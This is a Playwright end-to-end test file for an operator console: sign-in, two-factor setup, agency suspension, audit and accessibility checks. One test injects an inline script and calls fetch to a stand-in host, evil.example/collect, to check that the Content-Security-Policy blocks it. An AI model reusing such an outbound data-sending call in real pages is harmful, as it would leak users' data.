import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from '@playwright/test'
import express from 'express'
import { Secret, TOTP } from 'otpauth'
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Language, MessageKey, MessageParams } from '../shared/language/index.ts'
import { createTranslator } from '../shared/language/index.ts'
import { mountConsole } from '../server/http/console.ts'
import { createAccount } from '../server/identity/accounts.ts'
import { beginFactor, confirmFactor } from '../server/identity/second-factor.ts'
import { raiseToOperator } from '../server/identity/standing.ts'
import { property } from '../server/testing/things.ts'
import { openWorld, testPassword } from '../server/testing/world.ts'
import type { World } from '../server/testing/world.ts'
import { graveFindings } from './harness/accessible.ts'
import { launchChromium } from './harness/chromium.ts'
import { hearComplaints } from './harness/complaints.ts'
import { everythingSaid, settled, sidewaysOverflow } from './harness/screens.ts'
import { expect, test } from './harness/test.ts'

// The operator's console as it is served by the cloud server, in a real browser.

const translators: Readonly<Record<Language, (key: MessageKey, params?: MessageParams) => string>> = { fr: createTranslator('fr'), en: createTranslator('en') }
const t = translators.fr

let browser: Browser | null = null
let world: World
let context: BrowserContext
let page: Page
const complaints: string[] = []

test.beforeAll(async () => {
  test.setTimeout(120_000)
  try {
    browser = await launchChromium()
  } catch (error) {
    test.skip(true, `no browser here: ${String(error)}`)
  }
  world = await openWorld()
  const { kysely } = world.server.house.store
  await kysely.updateTable('subscription').set({ plan: 'basic', maxAgents: 2, maxProperties: 500, maxClients: 2500 }).where('agencyId', '=', world.ours.id).execute()
})
test.afterAll(async () => {
  await browser?.close()
  await world?.server.close()
})
test.beforeEach(async () => {
  complaints.length = 0
  context = await browser!.newContext({ viewport: { width: 1366, height: 768 }, locale: 'fr-FR', timezoneId: 'Africa/Dakar' })
  page = await context.newPage()
  hearComplaints(page, complaints)
})
test.afterEach(async () => {
  const info = test.info()
  if (info.status !== info.expectedStatus) await info.attach('screen', { body: await page.screenshot(), contentType: 'image/png' })
  await context.close()
})

async function signIn(person: { email: string; password?: string } = world.operator, say = t): Promise<void> {
  await page.goto(`${world.server.url}/console/`)
  await fillSignIn(person, say)
}

async function fillSignIn(person: { email: string; password?: string }, say = t): Promise<void> {
  await page.getByLabel(say('session.sign_in.email')).fill(person.email)
  await page.getByRole('textbox', { name: say('session.sign_in.password') }).fill(person.password ?? testPassword)
  await page.getByRole('button', { name: say('session.sign_in.submit') }).click()
}

async function newOperator(email: string): Promise<{ id: string; email: string; password: string; name: string }> {
  const { id, name } = await createAccount(world.server.house, { email, firstName: 'Aminata', lastName: 'Ba', phone: null, password: testPassword, language: 'fr' })
  await raiseToOperator(world.server.house, id)
  return { id, email, password: testPassword, name }
}

async function inside(): Promise<void> {
  await expect(page.getByRole('navigation', { name: t('console.nav.label') })).toBeVisible()
}

const dialog = () => page.getByRole('dialog')
const row = (name: string | RegExp) => page.getByRole('row').filter({ hasText: name })
/** What the browser itself writes down of an answer that refused: brought about by the test. */
const refusals = (): string[] => complaints.filter((text) => !text.includes('the server responded with a status of 4'))

test('a wrong password is refused in words, and keeps the address', async () => {
  await signIn({ email: world.operator.email, password: 'not the password' })
  await expect(page.getByRole('alert')).toHaveText(t('error.wrong_password'))
  await expect(page.getByLabel(t('session.sign_in.email'))).toHaveValue(world.operator.email)
  await expect(page.getByRole('textbox', { name: t('session.sign_in.password') })).toBeFocused()
  expect(refusals()).toEqual([])
})

test('somebody who does not run the platform is refused in words and left without a session', async () => {
  await signIn(world.theirs.admin)
  await expect(page.getByRole('alert')).toHaveText(t('console.sign_in.not_operator'))
  await expect(page.getByRole('navigation')).toHaveCount(0)
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0)
  const open = await world.server.house.store.kysely.selectFrom('accessSession').select('deviceName').where('accountId', '=', world.theirs.admin.accountId).where('endedAt', 'is', null).execute()
  expect(open.map(({ deviceName }) => deviceName)).toEqual(['test'])
  expect(refusals()).toEqual([])
})

test('the operator turns on a second factor, is asked for its code at the next sign-in, and turns it off again', async () => {
  const keeper = await newOperator('keeper@digit-hab.sn')
  await signIn(keeper)
  await inside()
  await page.getByRole('button', { name: t('shell.top.user_menu', { name: keeper.name }) }).click()
  await page.getByRole('menuitem', { name: t('console.me.title') }).click()
  const panel = page.getByRole('region', { name: t('console.me.factor') })
  await panel.getByLabel(t('console.me.current'), { exact: true }).fill('not the password')
  await panel.getByRole('button', { name: t('console.me.factor_begin') }).click()
  await expect(panel.getByRole('alert')).toBeVisible()
  await panel.getByLabel(t('console.me.current'), { exact: true }).fill(testPassword)
  await panel.getByRole('button', { name: t('console.me.factor_begin') }).click()
  const secret = await panel.locator('[data-secret]').getAttribute('data-secret')
  const codeAt = (ahead: number) => new TOTP({ algorithm: 'SHA1', digits: 6, period: 30, secret: Secret.fromBase32(secret!) }).generate({ timestamp: Date.now() + ahead })
  await panel.getByLabel(t('console.me.factor_code')).fill(codeAt(0))
  await page.keyboard.press('Enter')
  await expect(panel.getByText(t('console.me.factor_codes'))).toBeVisible()
  await panel.getByRole('button', { name: t('console.me.factor_kept') }).click()
  await expect(panel.getByText(t('console.me.factor_on', { left: '10' }))).toBeVisible()

  await page.evaluate(() => sessionStorage.clear())
  await page.reload()
  await fillSignIn(keeper)
  const code = page.getByLabel(t('console.sign_in.code'))
  await expect(code).toBeFocused()
  await expect(page.getByRole('alert')).toHaveCount(0)
  await code.fill('000000')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('alert')).toHaveText(t('error.code_wrong'))
  // The step before was used up by the set-up.
  await code.fill(codeAt(30_000))
  await page.keyboard.press('Enter')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(t('console.me.title'))
  await panel.getByLabel(t('console.me.current'), { exact: true }).fill(testPassword)
  await panel.getByRole('button', { name: t('console.me.factor_drop') }).click()
  await expect(panel.getByText(t('console.me.factor_off'))).toBeVisible()
  expect(refusals()).toEqual([])
})

test('a password that was made up for somebody is changed before anything else', async () => {
  const { id, password } = await newOperator('fresh@digit-hab.sn')
  await world.server.house.store.kysely.updateTable('credential').set({ mustChange: 1 }).where('accountId', '=', id).execute()
  await signIn({ email: 'fresh@digit-hab.sn', password })
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(t('console.me.must_title'))
  await page.getByLabel(t('console.me.fresh'), { exact: true }).fill('azerty')
  await page.getByLabel(t('console.me.repeat'), { exact: true }).fill('azerti')
  await page.getByRole('button', { name: t('console.me.change') }).click()
  await expect(page.getByText(t('problem.mismatch'))).toBeVisible()
  await page.getByLabel(t('console.me.repeat'), { exact: true }).fill('azerty')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('alert')).toHaveText(t('error.weak_password'))
  for (const name of [t('console.me.fresh'), t('console.me.repeat')]) await page.getByLabel(name, { exact: true }).fill('sept pirogues au large')
  await page.keyboard.press('Enter')
  await inside()
  const signedIn = await world.server.call('POST', '/api/auth/login/', { body: { email: 'fresh@digit-hab.sn', password: 'sept pirogues au large' } })
  expect(signedIn.body).toMatchObject({ must_change_password: false, user: { role: 'operator' } })
  expect(refusals()).toEqual([])
})

test('the operator finds an agency, sees what it uses, changes its plan, suspends it with a reason and reads that in the audit', async () => {
  test.setTimeout(90_000)
  const id = await property({ world, agency: world.ours, owner: world.ours.agent, caller: 'agent', token: undefined })
  const publicly = async () => (await world.server.call('GET', `/api/properties/${id}/`)).status
  expect(await publicly()).toBe(200)
  await signIn()
  await inside()

  // By keyboard: to the agencies, into the search, down to the row, open.
  await page.keyboard.press('Alt+2')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(t('console.agencies.title'))
  await page.keyboard.press('/')
  await page.keyboard.type('LAGUNÉ')
  await expect(page.getByText(t('console.agencies.count', { count: 1 }))).toBeVisible()
  await expect(row('Agence lagune').getByRole('meter', { name: t('console.limits.agents') })).toHaveAttribute('aria-valuetext', t('console.limits.of', { used: '2', most: '2' }))
  await expect(row('Agence lagune').getByRole('meter', { name: t('console.limits.properties') })).toHaveAttribute('aria-valuenow', '1')
  await page.getByRole('link', { name: 'Agence lagune' }).focus()
  await page.keyboard.press('Enter')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Agence lagune')
  await expect(row('agent@lagune.sn')).toBeVisible()

  await page.getByRole('button', { name: t('console.agency.change') }).click()
  await dialog().getByLabel(t('console.subscription.plan')).selectOption('premium')
  await expect(dialog().getByLabel(t('console.subscription.properties'))).toHaveValue('5\u202f000')
  await dialog().getByLabel(t('console.subscription.clients')).fill('')
  await dialog().getByRole('button', { name: t('console.subscription.save') }).click()
  await expect(dialog().getByText(t('console.reason.missing'))).toBeVisible()
  await dialog().getByLabel(t('console.reason.label')).fill('Payé pour 2027')
  await page.keyboard.press('Control+Enter')
  await expect(dialog()).toHaveCount(0)
  const subscription = page.getByRole('region', { name: t('console.agency.subscription') })
  await expect(subscription).toContainText(t('console.plans.premium'))
  await expect(page.getByRole('region', { name: t('console.agency.usage') })).toContainText('1 / 5\u202f000')
  const stored = await world.server.house.store.kysely.selectFrom('subscription').selectAll().where('agencyId', '=', world.ours.id).executeTakeFirstOrThrow()
  expect(stored).toMatchObject({ plan: 'premium', maxAgents: 20, maxProperties: 5000, maxClients: null })

  await page.getByRole('button', { name: t('console.agency.suspend'), exact: true }).click()
  await dialog().getByLabel(t('console.reason.label')).fill('Facture impayée')
  await dialog().getByRole('button', { name: t('console.agency.suspend'), exact: true }).click()
  await expect(page.getByText(t('console.agency.suspended', { name: 'Agence lagune' }))).toBeVisible()
  await expect(page.getByText('Facture impayée').first()).toBeVisible()
  expect(await publicly()).toBe(404)

  await page.getByRole('link', { name: t('console.agency.all_audit') }).click()
  await expect(row(t('console.acts.agency.suspended'))).toContainText('Facture impayée')
  await expect(row(t('console.acts.agency.suspended'))).toContainText('operator@digit-hab.sn')
  await expect(row(t('console.acts.subscription.changed'))).toContainText(t('console.audit.plan_change', { from: t('console.plans.basic'), to: t('console.plans.premium') }))
  await page.getByLabel(t('console.audit.action')).selectOption('agency.suspended')
  await expect(page.getByText(t('console.audit.count', { count: 1 }))).toBeVisible()

  // Back, as with any page: the filter goes, then the record comes.
  await page.goBack()
  await expect(page.getByText(t('console.audit.count', { count: 2 }))).toBeVisible()
  await page.goBack()
  await page.getByRole('button', { name: t('console.agency.resume') }).click()
  await dialog().getByLabel(t('console.reason.label')).fill('Facture réglée')
  await dialog().getByRole('button', { name: t('console.agency.resume') }).click()
  await expect(page.getByRole('button', { name: t('console.agency.suspend'), exact: true })).toBeVisible()
  expect(await publicly()).toBe(200)
  expect(refusals()).toEqual([])
})

test('the operator ends a session of somebody, takes off a second factor, and closes an account', async () => {
  const { accountId } = world.theirs.agent
  const phone = await world.server.house.services.sessions.begin(accountId, { deviceName: 'Samsung A54', userAgent: 'okhttp/4.12.0', address: '41.82.0.1' })
  const person = { id: accountId, email: world.theirs.agent.email }
  const { secret } = await beginFactor(world.server.house, person)
  await confirmFactor(world.server.house, person, new TOTP({ secret: Secret.fromBase32(secret) }).generate())
  const asPhone = async () => (await world.server.call('GET', '/api/auth/me/', { token: phone.access })).status
  expect(await asPhone()).toBe(200)
  await signIn()
  await inside()
  await page.getByRole('link', { name: t('console.nav.accounts'), exact: true }).click()
  await page.getByLabel(t('console.accounts.role')).selectOption('agent')
  await page.getByRole('searchbox').fill('agent@teranga')
  await expect(page.getByText(t('console.accounts.count', { count: 1 }))).toBeVisible()
  await page.getByRole('row').filter({ hasText: 'agent@teranga.sn' }).getByRole('link').first().click()
  await row('Samsung A54').getByRole('button', { name: t('console.account.end') }).click()
  await dialog().getByLabel(t('console.reason.label')).fill('Téléphone perdu')
  await dialog().getByRole('button', { name: t('console.account.end') }).click()
  await expect(row('Samsung A54')).toHaveCount(0)
  expect(await asPhone()).toBe(401)

  await page.getByRole('button', { name: t('console.account.drop_factor') }).click()
  await dialog().getByLabel(t('console.reason.label')).fill('Téléphone perdu')
  await dialog().getByRole('button', { name: t('console.account.drop_factor') }).click()
  await expect(page.getByText(t('console.account.dropped_factor', { name: 'agent Diop' }))).toBeVisible()
  await expect(page.getByRole('button', { name: t('console.account.drop_factor') })).toHaveCount(0)

  await page.getByRole('button', { name: t('console.account.close') }).click()
  await dialog().getByLabel(t('console.reason.label')).fill('Départ')
  await dialog().getByRole('button', { name: t('console.account.close') }).click()
  await expect(page.getByRole('button', { name: t('console.account.reopen') })).toBeVisible()
  await expect(page.getByText(t('console.account.sessions_empty'))).toBeVisible()
  await page.getByRole('link', { name: t('console.account.audit') }).click()
  await expect(row(t('console.acts.session.ended'))).toContainText('Téléphone perdu')
  await expect(row(t('console.acts.account.closed'))).toContainText('Départ')
  expect(refusals()).toEqual([])
})

test('a reload stays signed in, an ended session leads to the door and says why, and signing out ends it on the server', async () => {
  await signIn()
  await inside()
  await page.goto(`${world.server.url}/console/#/audit`)
  await page.reload()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(t('console.audit.title'))
  const { kysely } = world.server.house.store
  const mine = async () => (await kysely.selectFrom('accessSession').select('id').where('accountId', '=', world.operator.accountId).where('deviceName', '=', 'Console').where('endedAt', 'is', null).orderBy('createdAt', 'desc').execute()).map(({ id }) => id)
  // Nothing is being read when it ends: the next click finds out.
  await settled(page)
  const [current] = await mine()
  await world.server.house.services.sessions.end(current!, 'revoked')
  await page.getByRole('link', { name: t('console.nav.agencies'), exact: true }).click()
  await expect(page.getByRole('alert')).toHaveText(t('console.sign_in.ended'))
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0)

  await signIn()
  await inside()
  const [next] = await mine()
  await page.getByRole('button', { name: t('shell.top.user_menu', { name: 'Operator Diop' }) }).click()
  await page.getByRole('menuitem', { name: t('shell.top.sign_out') }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(t('console.sign_in.title'))
  await expect.poll(mine).not.toContain(next)
  expect(refusals()).toEqual([])
})

test('an inline script does not run, no style from elsewhere holds, and nothing is sent elsewhere', async () => {
  await page.goto(`${world.server.url}/console/`)
  const found = await page.evaluate(async () => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
    const script = document.createElement('script')
    script.textContent = 'globalThis.inlineRan = true'
    const style = document.createElement('style')
    style.textContent = 'body { outline: 9px solid red }'
    document.body.append(script, style)
    await fetch('https://evil.example/collect').catch(() => undefined)
    await new Promise((resolve) => setTimeout(resolve, 200))
    return { ran: 'inlineRan' in globalThis, outline: getComputedStyle(document.body).outlineWidth, refused: [...new Set(refused)].sort() }
  })
  expect(found).toMatchObject({ ran: false, refused: ['connect-src', 'script-src-elem', 'style-src-elem'] })
  expect(found.outline).not.toBe('9px')
  const answer = await world.server.call('GET', '/console/')
  expect(answer.headers.get('content-security-policy')).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[\w+/]{22}=='; /)
  expect(answer.headers.get('content-security-policy')).not.toMatch(/unsafe/)
  expect(answer.headers.get('cache-control')).toBe('no-store')
  const [, asset] = /src="(\/console\/assets\/[^"]+)"/.exec(answer.text)!
  expect((await world.server.call('GET', asset!)).headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
  expect((await world.server.call('GET', '/console')).headers.get('location')).toBe('/console/')
})

test('a console that was not built says so, in the language of who asks', async () => {
  const empty = mkdtempSync(join(tmpdir(), 'digit-hab-no-console-'))
  const app = express()
  mountConsole(app, empty)
  const server = await new Promise<Server>((resolve) => {
    const opened = app.listen(0, '127.0.0.1', () => resolve(opened))
  })
  try {
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/console/`
    const answer = await page.goto(url)
    expect(answer!.status()).toBe(404)
    await expect(page.getByRole('heading')).toHaveText(t('console.not_built.title'))
    expect(await (await fetch(url, { headers: { 'accept-language': 'en' } })).text()).toContain(translators.en('console.not_built.text'))
  } finally {
    server.close()
    rmSync(empty, { recursive: true, force: true })
  }
})

const looks = [
  { name: 'wide, light, French', size: { width: 1366, height: 768 }, theme: 'light', language: 'fr' },
  { name: 'wide, dark, English', size: { width: 1366, height: 768 }, theme: 'dark', language: 'en' },
  { name: 'a tablet, light, English', size: { width: 820, height: 1100 }, theme: 'light', language: 'en' },
  { name: 'narrow, dark, French', size: { width: 390, height: 844 }, theme: 'dark', language: 'fr' },
] as const

for (const { name, size, theme, language } of looks) {
  test(`every page without a serious finding: ${name}`, async () => {
    test.setTimeout(120_000)
    const say = translators[language]
    await page.setViewportSize(size)
    await page.addInitScript(([spoken, light]) => {
      localStorage.setItem('digit-hab.language', spoken)
      localStorage.setItem('digit-hab.theme', light)
    }, [language, theme] as const)
    const judge = async (what: string) => {
      await settled(page)
      const said = await everythingSaid(page)
      expect.soft({ axe: await graveFindings(page), sideways: await sidewaysOverflow(page), keys: said.match(/\bconsole\.[a-z_]+\.|\{\{/g) ?? [], complaints: [...complaints] }, what).toEqual({ axe: [], sideways: [], keys: [], complaints: [] })
    }
    await page.goto(`${world.server.url}/console/`)
    await judge('the door')
    await signIn(world.operator, say)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(say('console.overview.title'))
    await judge('overview')
    for (const address of ['/agencies', '/agencies?search=zzzz', `/agencies/${world.ours.id}`, '/accounts', `/accounts/${world.ours.agent.accountId}`, '/audit', '/work', '/me', '/nowhere']) {
      await page.evaluate((hash) => {
        location.hash = hash
      }, `#${address}`)
      await judge(address)
    }
    await page.evaluate((hash) => {
      location.hash = hash
    }, `#/agencies/${world.ours.id}`)
    await page.getByRole('button', { name: say('console.agency.change') }).click()
    await judge('a subscription being changed')
    await page.keyboard.press('Escape')
    await expect(dialog()).toHaveCount(0)
    await page.getByRole('button', { name: say('console.agency.suspend'), exact: true }).click()
    await dialog().getByRole('button', { name: say('console.agency.suspend'), exact: true }).click()
    await judge('a suspension without its reason')
  })
}
